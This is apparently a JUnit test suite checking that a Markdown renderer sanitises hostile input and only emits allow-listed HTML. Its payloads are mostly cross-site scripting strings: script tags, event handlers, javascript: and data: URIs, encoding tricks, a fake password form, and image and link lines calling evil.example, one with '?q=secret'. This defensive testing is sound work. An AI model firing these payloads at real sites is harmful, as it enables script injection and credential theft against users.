package io.opslore.kit;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assumptions.assumeThat;

import java.io.BufferedInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.zip.GZIPInputStream;
import org.apache.commons.compress.archivers.tar.TarArchiveInputStream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Whatever a text holds, what comes out is parsed as a browser would and held to a list. */
class HostileMarkdownTests {

    private static final MarkdownOptions OPTIONS =
            MarkdownOptions.plain(new MarkdownOptions.Labels("Copy", "Image", "Link", kind -> kind))
                    .citing(Map.of(1, "document/x?lines=L1"), List.of("flag me", "alert(1)"))
                    .linking(link -> "document/" + link.hashCode())
                    .picturing(HostileMarkdownTests::picture);

    private static final String PICTURE = "originals/0b1f2c3d-0000-4000-8000-00000000000a";

    private static final Map<String, Set<String>> ALLOWED =
            Map.ofEntries(
                    Map.entry("p", Set.of()),
                    Map.entry("br", Set.of()),
                    Map.entry("hr", Set.of()),
                    Map.entry("h1", Set.of("id")),
                    Map.entry("h2", Set.of("id")),
                    Map.entry("h3", Set.of("id")),
                    Map.entry("h4", Set.of("id")),
                    Map.entry("h5", Set.of("id")),
                    Map.entry("h6", Set.of("id")),
                    Map.entry("ul", Set.of()),
                    Map.entry("ol", Set.of("start")),
                    Map.entry("li", Set.of()),
                    Map.entry("blockquote", Set.of()),
                    Map.entry("pre", Set.of()),
                    Map.entry("code", Set.of()),
                    Map.entry("em", Set.of()),
                    Map.entry("strong", Set.of()),
                    Map.entry("del", Set.of()),
                    Map.entry("table", Set.of()),
                    Map.entry("thead", Set.of()),
                    Map.entry("tbody", Set.of()),
                    Map.entry("tr", Set.of()),
                    Map.entry("th", Set.of("align")),
                    Map.entry("td", Set.of("align")),
                    Map.entry(
                            "a",
                            Set.of("href", "target", "rel", "data-cite", "aria-label", "title")),
                    Map.entry("span", Set.of()),
                    Map.entry("mark", Set.of()),
                    Map.entry("div", Set.of("id")),
                    Map.entry("img", Set.of("src", "alt", "loading")),
                    Map.entry("button", Set.of("type", "aria-label", "title")));

    @ParameterizedTest
    @MethodSource("payloads")
    void staysWithinTheAllowList(String payload) {
        assertSafe(payload);
        assertSafe("- a\n- " + payload);
        assertSafe("> " + payload);
        assertSafe("| " + payload + " |\n|---|\n| " + payload + " |");
        assertSafe("[x](" + payload + ")");
        assertSafe("![" + payload + "](" + payload + ")");
        assertSafe("```" + payload + "\n" + payload + "\n```");
        assertSafe("# " + payload + "\n\n[1]: " + payload + "\n\n[1] [" + payload + "][1]");
        assertSafe("flag me " + payload);
        assertSafe("> [!NOTE] " + payload + "\n> " + payload);
        assertSafe("> [!" + payload + "]\n> x");
        assertSafe(Admonitions.asQuotes("!!! note \"" + payload + "\"\n    " + payload));
        assertSafe(Admonitions.asQuotes(":::tip " + payload + "\n" + payload + "\n:::"));
        assertSafe(AsciiDoc.toMarkdown("[[a]]\n== " + payload + "\n\n<<a," + payload + ">>"));
    }

    @Test
    void staysWithinTheAllowListForAPublicCollection() throws IOException {
        Path archive = collection();
        assumeThat(archive)
                .as("shared/eval/xss-payloadbox.tar.gz lies above the working folder")
                .isNotNull();
        int seen = 0;
        for (String payload : lines(archive)) {
            assertSafe(payload);
            assertSafe("[x](" + payload + ")");
            seen++;
        }
        assertThat(seen).isGreaterThan(100);
    }

    /** Worse than any real one: it also hands out what nobody may load. */
    private static String picture(String address) {
        return address.hashCode() % 2 == 0 ? PICTURE : address;
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "javascript:alert(1)",
                "//evil.example/x.png",
                "/\\evil.example/x.png",
                "http://evil.example/x.png",
                "https:evil.example/x.png",
                "data:image/svg+xml,<svg onload=alert(1)>",
                "../../../etc/passwd",
                "originals/../logout",
                "originals/0b1f2c3d-0000-4000-8000-00000000000a/../../x",
                "originals/0b1f2c3d-0000-4000-8000-00000000000a?x",
                "x.png\" onerror=\"alert(1)",
            })
    void loadsNoImageThatIsNotThePortalsOwn(String address) {
        for (String markdown :
                List.of(
                        "![x](" + address + ")",
                        "![x](<" + address + ">)",
                        "![x][1]\n\n[1]: " + address)) {
            String html =
                    MarkdownRenderer.render(markdown, OPTIONS.picturing(image -> image)).stream()
                            .map(HtmlBlock::html)
                            .collect(Collectors.joining());
            assertThat(Jsoup.parseBodyFragment(html).select("[src], [srcset], [style], [onerror]"))
                    .as(markdown)
                    .isEmpty();
        }
    }

    private static void assertSafe(String markdown) {
        String html =
                MarkdownRenderer.render(markdown, OPTIONS).stream()
                        .map(HtmlBlock::html)
                        .collect(Collectors.joining());
        for (Element element : Jsoup.parseBodyFragment(html).body().select("body *")) {
            assertAllowed(element, markdown);
        }
    }

    private static void assertAllowed(Element element, String markdown) {
        assertThat(ALLOWED).as("element of %s", markdown).containsKey(element.normalName());
        for (Attribute attribute : element.attributes()) {
            String name = attribute.getKey();
            assertThat(name.equals("class") || ALLOWED.get(element.normalName()).contains(name))
                    .as("attribute %s of %s in %s", name, element.normalName(), markdown)
                    .isTrue();
            switch (name) {
                case "href" ->
                        assertThat(attribute.getValue())
                                .as(markdown)
                                .matches(
                                        "leave\\?to=(https?%3A%2F%2F|mailto%3A)[\\w.*+%-]*|#h?[\\p{L}\\p{N}_-]*"
                                                + "|document/[-?=\\w]+");
                case "src" -> assertThat(attribute.getValue()).as(markdown).isEqualTo(PICTURE);
                case "alt", "title" -> {}
                case "class" ->
                        assertThat(attribute.getValue())
                                .as(markdown)
                                .matches(
                                        "(block|code|code-head|code-language|copy-code|line|cited"
                                                + "|unsupported|cite|outside|image|picture|task|table"
                                                + "|mermaid|heading-link|admonition|admonition-title|adm-[a-z]+"
                                                + "|t-[a-z]+| )+");
                case "id" ->
                        assertThat(attribute.getValue())
                                .as(markdown)
                                .matches("L\\d+|h-[\\p{L}\\p{N}_-]+");
                default -> assertThat(attribute.getValue()).as(markdown).doesNotContain("<", ":");
            }
        }
        if (element.attr("href").startsWith("leave?")) {
            assertThat(element.attr("rel")).contains("noopener", "noreferrer", "nofollow");
        }
    }

    private static List<String> lines(Path archive) throws IOException {
        try (InputStream file = new BufferedInputStream(Files.newInputStream(archive));
                TarArchiveInputStream tar = new TarArchiveInputStream(new GZIPInputStream(file))) {
            StringBuilder all = new StringBuilder();
            for (var entry = tar.getNextEntry(); entry != null; entry = tar.getNextEntry()) {
                if (entry.isFile() && entry.getName().endsWith(".txt")) {
                    all.append(new String(tar.readAllBytes(), StandardCharsets.UTF_8)).append('\n');
                }
            }
            return all.toString().lines().filter(line -> !line.isBlank()).toList();
        }
    }

    private static Path collection() {
        for (Path at = Path.of("").toAbsolutePath(); at != null; at = at.getParent()) {
            Path archive = at.resolve("shared/eval/xss-payloadbox.tar.gz");
            if (Files.exists(archive)) {
                return archive;
            }
        }
        return null;
    }

    static List<String> payloads() {
        return List.of(
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil.example/x.js></sCrIpT>",
                "<script\n>alert(1)</script\n>",
                "<img src=x onerror=alert(1)>",
                "<img/src=\"x\"/onerror=\"alert(1)\">",
                "<img src=`x`onerror=alert(1)>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>\"/></svg>",
                "<math><mtext></table><img src=x onerror=alert(1)>",
                "<math href=\"javascript:alert(1)\">x</math>",
                "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script>",
                "<style>*{background:url(//evil.example)}</style>",
                "<div style=\"background:url(javascript:alert(1))\">x</div>",
                "<p style=\"position:fixed;inset:0\">x</p>",
                "<link rel=stylesheet href=//evil.example/x.css>",
                "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
                "<base href=\"https://evil.example/\">",
                "<form action=https://evil.example><input name=password><button>ok</button></form>",
                "<button formaction=javascript:alert(1) class=copy-code>x</button>",
                "<input autofocus onfocus=alert(1)>",
                "<textarea onfocus=alert(1) autofocus>",
                "<select onchange=alert(1)><option>1</select>",
                "<iframe src=javascript:alert(1)></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=javascript:alert(1)></object>",
                "<embed src=javascript:alert(1)>",
                "<applet code=x></applet>",
                "<video><source onerror=alert(1)></video>",
                "<audio src=x onerror=alert(1)>",
                "<details open ontoggle=alert(1)>x</details>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<body onload=alert(1)>",
                "<html onmouseover=alert(1)>",
                "<template><script>alert(1)</script></template>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<xmp><script>alert(1)</script></xmp>",
                "<plaintext><script>alert(1)</script>",
                "<!--><script>alert(1)</script-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml version=\"1.0\"?><script>alert(1)</script>",
                "<!DOCTYPE html><script>alert(1)</script>",
                "<a href=javascript:alert(1)>x</a>",
                "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
                "<a href=\"&#106;avascript:alert(1)\">x</a>",
                "<a onclick=alert(1) href=# target=_top>x</a>",
                "<a id=L1 name=cookie class=cite data-cite=1>x</a>",
                "<span class=\"v-loading\" id=\"ROOT\" is=\"x\">x</span>",
                "<vaadin-button on-click=alert(1) theme=primary>x</vaadin-button>",
                "<slot name=x></slot><x-y onclick=alert(1)>z</x-y>",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](java\tscript:alert(1))",
                "[x](&#106;avascript:alert(1))",
                "[x](javascript&colon;alert(1))",
                "[x](javascript&#58;alert(1))",
                "[x](\u0001javascript:alert(1))",
                "[x](vbscript:msgbox(1))",
                "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[x](file:///etc/passwd)",
                "[x](blob:https://a/b)",
                "[x](//evil.example/x)",
                "[x](/\\evil.example/x)",
                "[x](\\\\evil.example\\x)",
                "[x](https:evil.example)",
                "[x](<javascript:alert(1)>)",
                "[x](https://a\" onmouseover=\"alert(1))",
                "[x](https://a 'x\" onmouseover=alert(1) y=\"')",
                "![x](https://evil.example/?q=secret)",
                "![x\" onerror=\"alert(1)](x)",
                "![x][i]\n\n[i]: javascript:alert(1) \"onerror=alert(1)\"",
                "[x][r]\n\n[r]: javascript:alert(1)",
                "<javascript:alert(1)>",
                "<data:text/html,<script>alert(1)</script>>",
                "https://evil.example/\"onmouseover=\"alert(1)",
                "www.evil.example\"><script>alert(1)</script>",
                "`<script>alert(1)</script>`",
                "    <script>alert(1)</script>",
                "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
                "```html\n</span></code></pre><img src=x onerror=alert(1)>\n```",
                "**<b onmouseover=alert(1)>**x</b>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "&#60;script&#62;alert(1)&#60;/script&#62;",
                "\\<script>alert(1)\\</script>",
                "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
                "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
                "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
                "<<script>script>alert(1)<</script>/script>",
                "<a href=\"x\"<script>alert(1)</script>",
                "<img src=\"x\n\nonerror=alert(1)",
                "\u202E<script>alert(1)</script>",
                "{{constructor.constructor('alert(1)')()}}",
                "${alert(1)} #{alert(1)} <%= alert(1) %>",
                "| a<img src=x onerror=alert(1)> |",
                "-->'\"></title></style></textarea></script><script>alert(1)</script>");
    }
}
